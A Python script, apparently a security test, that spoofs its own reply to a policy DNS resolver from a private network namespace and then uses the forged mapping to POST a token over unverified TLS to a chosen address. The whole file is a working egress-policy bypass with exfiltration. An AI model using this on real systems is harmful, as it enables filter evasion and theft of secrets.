# SPDX-License-Identifier: Apache-2.0
"""A session alone: in a user and network namespace of its own, with a TUN device, it asks the policy's resolver and answers itself; then it
connects, in the machine's namespace, to what that taught.

usage: self_answer.py RESOLVER NAME ADDRESS TOKEN
"""
import ctypes
import fcntl
import os
import select
import socket
import ssl
import struct
import sys

resolver, name, addr, tok = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)


def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def inside():
    uid = os.getuid()
    if libc.unshare(0x10000000 | 0x40000000):
        raise OSError(ctypes.get_errno(), "unshare")
    for path, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid)):
        with open("/proc/self/" + path, "w") as f:
            f.write(text)
    tun = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH22x", b"tun0", 0x1001))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def address(a):
        return struct.pack("16sHH4s8x", b"tun0", socket.AF_INET, 0, socket.inet_aton(a))
    fcntl.ioctl(s, 0x8916, address(resolver.rsplit(".", 1)[0] + ".77"))
    fcntl.ioctl(s, 0x891c, address("255.255.255.0"))
    fcntl.ioctl(s, 0x8914, struct.pack("16sH22x", b"tun0", 0x41))
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    q = struct.pack("!HHHHHH", 0x1234, 0x100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.connect((resolver, 53))
    c.send(q)
    while True:
        if not select.select([tun], [], [], 3)[0]:
            raise OSError("no question came")
        p = os.read(tun, 2000)
        if p[0] >> 4 == 4 and p[9] == 17 and p[22:24] == b"\0\x35":
            break
    a = q[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + q[12:] + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(addr)
    udp = struct.pack("!HHHH", 53, struct.unpack("!H", p[20:22])[0], 8 + len(a), 0) + a
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, p[16:20], p[12:16]))
    ip[10:12] = struct.pack("!H", checksum(bytes(ip)))
    os.write(tun, bytes(ip) + udp)
    c.settimeout(2)
    print("answered", len(c.recv(500)), flush=True)


pid = os.fork()
if not pid:
    try:
        inside()
    except OSError as e:
        print("inside", e, flush=True)
    os._exit(0)
os.waitpid(pid, 0)
try:
    s = socket.create_connection((addr, 443), 4)
    x = ssl.create_default_context()
    x.check_hostname = False
    x.verify_mode = ssl.CERT_NONE
    t = x.wrap_socket(s, server_hostname=name)
    t.send(b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(tok), tok.encode()))
    t.recv(60)
    print("sent")
except OSError as e:
    print("error", e)
